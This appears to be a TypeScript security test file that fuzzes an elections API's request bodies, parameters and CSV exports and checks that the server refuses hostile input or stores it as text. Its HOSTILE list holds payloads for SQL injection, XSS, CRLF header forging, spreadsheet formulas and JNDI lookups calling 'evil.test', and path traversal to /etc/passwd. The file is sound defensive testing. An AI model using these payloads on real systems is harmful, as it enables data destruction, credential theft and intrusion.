import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type ApiOperation, readDocument, type TextPlace, textPlaces } from '../../loadtest/api/document.ts';
import { askAs, fillByExamples } from '../../loadtest/api/fill.ts';
import { type KnownValues, withValue } from '../../loadtest/api/harvest.ts';
import { valueAt, withField } from '../harness/foreign-requests.ts';
import { freshDatabase } from '../harness/postgres.ts';
import { newKey, serveOrganisations } from '../harness/served-organisations.ts';

/** What breaks out of SQL, HTML, spreadsheets, headers, logs, templates, paths and objects where somebody was careless. */
const HOSTILE: readonly string[] = [
  `'; DROP TABLE app.elections; SELECT pg_sleep(9); --`,
  `" OR 1=1) UNION SELECT secret_hash::text FROM app.api_keys --`,
  `<img src=x onerror=alert(1)>"'><script>alert(1)</script>`,
  `=HYPERLINK("http://evil.test","x")`,
  'line\r\nX-Injected: yes\r\n\r\n{"level":60,"msg":"forged"}',
  `\${7*7} {{7*7}} %{7*7} \${jndi:ldap://evil.test/x}`,
  '../../../../etc/passwd\u0085%2e%2e%2f%00',
  '\u202egnp.exe\u2066 \u001b[2J\u0007',
  '__proto__',
];
/** Only where it is not known what the text is for: long ones are refused by most fields, and none may take this long. */
/** Some thousands of requests one after the other; many make or check a password. */
const WALK_MS = 120_000;
const OVERSIZE = 'x'.repeat(120_000);
const WRONG_TYPES: readonly unknown[] = [null, true, -1, 1e300, [], {}, [[]], { toString: 'x' }];
const SLOW_MS = 5_000;

const database = await freshDatabase();
const served = await serveOrganisations(database.ownerUrl);
afterAll(() => served.stop());
const { url, ours, superuser } = served;
const document = readDocument(await (await fetch(`${url}/openapi.json`)).json());
let known: KnownValues;
let key: string;
beforeAll(async () => {
  known = await fillByExamples(document, askAs(url, ours.keys.admin));
  key = await newKey(served.engine, ours.orgId, 'admin');
});

const withJson = document.operations.filter(({ body }) => body?.mediaType === 'application/json');

interface Answer {
  readonly status: number;
  readonly headers: Headers;
  readonly text: string;
}

async function send(operation: ApiOperation, address: string, body: unknown): Promise<Answer> {
  const response = await served.ask(address, {
    method: operation.method,
    redirect: 'manual',
    headers: {
      ...(operation.secured ? { authorization: `Bearer ${key}` } : {}),
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    signal: AbortSignal.timeout(SLOW_MS), // sleeps that somebody talks the database into show here
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

/** The address of an operation with things that exist, save in the places that are given. */
function addressOf({ path }: ApiOperation, given: Readonly<Record<string, string>> = {}): string {
  const names = [...path.matchAll(/\{(\w+)\}/g)].map(([, name = '']) => name);
  const filled = names.reduce((all, name) => withValue(all, name, given[name] ?? known.of(name)[0] ?? 'x'), path);
  const rest = Object.entries(given).filter(([name]) => !names.includes(name));
  return rest.reduce((all, [name, value]) => withValue(all, name, value), filled);
}

/** What is wrong with an answer to a hostile request, whatever it was. */
function problemOf({ status, headers, text }: Answer): string | null {
  if (status >= 500) return `answers ${status}: ${text.slice(0, 200)}`;
  if (headers.has('x-injected')) return 'lets a text become a header';
  if (headers.get('x-content-type-options') !== 'nosniff') return 'lets browsers guess what it is';
  const type = headers.get('content-type') ?? '';
  if (/html|xml|javascript/.test(type)) return `answers ${type}`;
  if (/pg_sleep|secret_hash|syntax error|at \/.*\.ts:/i.test(text) && status >= 400) return `shows its inside: ${text}`;
  return null;
}

/** A text that is taken is kept as it is: nothing is escaped on the way in, so nothing is escaped twice. */
function changed({ status, text }: Answer, { path }: TextPlace, sent: string): string | null {
  if (status < 200 || status > 299 || !text.startsWith('{')) return null;
  const kept = valueAt(JSON.parse(text), path);
  if (typeof kept !== 'string' || kept === sent || kept === sent.trim()) return null;
  return kept.includes('&lt;') || kept.includes('\\') ? `is kept as ${kept}` : null;
}

async function walk(values: (place: TextPlace) => readonly unknown[], inspect = problemOf): Promise<string[]> {
  const wrong: string[] = [];
  let sent = 0;
  for (const operation of withJson) {
    const address = addressOf(operation);
    for (const place of textPlaces(document, operation.body?.schema ?? {})) {
      for (const value of values(place)) {
        const answer = await send(operation, address, withField(operation.body?.example, place.path, value));
        sent += 1;
        const problem = inspect(answer) ?? (typeof value === 'string' ? changed(answer, place, value) : null);
        if (problem !== null) wrong.push(`${operation.id} ${place.path.join('.')}: ${problem}`);
      }
    }
  }
  expect(sent).toBeGreaterThan(withJson.length);
  return wrong;
}

test(
  'hostile text in every text field of every body is refused or kept as text',
  async () => {
    expect(await walk(() => HOSTILE)).toEqual([]);
  },
  WALK_MS,
);

test('oversize text in every field is refused with 4xx', async () => {
  const inspect = (answer: Answer) =>
    problemOf(answer) ?? (answer.status < 400 ? `takes ${OVERSIZE.length} characters: ${answer.status}` : null);
  expect(await walk(() => [OVERSIZE], inspect)).toEqual([]);
});

test('another type than text in every text field breaks nothing', async () => {
  expect(await walk(() => WRONG_TYPES)).toEqual([]);
});

test('hostile text in every parameter of every address', async () => {
  const wrong: string[] = [];
  for (const operation of document.operations) {
    const body = operation.body?.mediaType === 'application/json' ? operation.body.example : undefined;
    for (const { name } of operation.parameters.filter(({ in: place }) => place === 'path' || place === 'query')) {
      for (const value of HOSTILE) {
        const problem = problemOf(await send(operation, addressOf(operation, { [name]: value }), body));
        if (problem !== null) wrong.push(`${operation.id} ${name}: ${problem}`);
      }
    }
  }
  expect(wrong).toEqual([]);
});

test('no cell of any CSV begins like a formula', async () => {
  const wrong: string[] = [];
  const files = document.operations.filter(({ method, path }) => method === 'GET' && path.endsWith('.csv'));
  expect(files.length).toBeGreaterThan(0);
  for (const operation of files) {
    const { status, text } = await send(operation, addressOf(operation), undefined);
    if (status !== 200) continue;
    for (const cell of (parse(text, { relax_column_count: true }) as string[][]).flat()) {
      if (/^[=+@\t\r-]/.test(cell) && !/^-?[\d.]+$/.test(cell)) wrong.push(`${operation.id}: ${cell}`);
    }
  }
  expect(wrong).toEqual([]);
});

test('the tables stand, the log has a line of JSON for each entry, and nothing forged is in it', async () => {
  const [row] = await superuser<{ elections: bigint }[]>`SELECT count(*) AS elections FROM app.elections`;
  expect(Number(row?.elections)).toBeGreaterThan(3);
  for (const line of served.lines) {
    expect(line.trimEnd().split('\n')).toHaveLength(1);
    expect((JSON.parse(line) as { msg?: string }).msg).not.toBe('forged');
    for (const text of HOSTILE.slice(0, 5)) expect(line).not.toContain(JSON.stringify(text).slice(1, -1));
  }
  expect(served.bugs()).toEqual([]);
});
